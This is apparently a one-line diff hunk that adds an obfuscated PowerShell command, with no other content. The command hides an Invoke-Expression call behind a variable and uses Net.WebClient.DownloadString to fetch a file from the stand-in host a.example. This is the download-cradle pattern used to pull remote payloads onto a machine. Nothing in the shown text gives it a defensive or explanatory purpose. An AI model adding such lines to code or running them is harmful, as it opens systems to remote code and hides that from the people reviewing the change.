@@ -1,0 +1,1 @@
+$f='iex'; & $f '$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')'
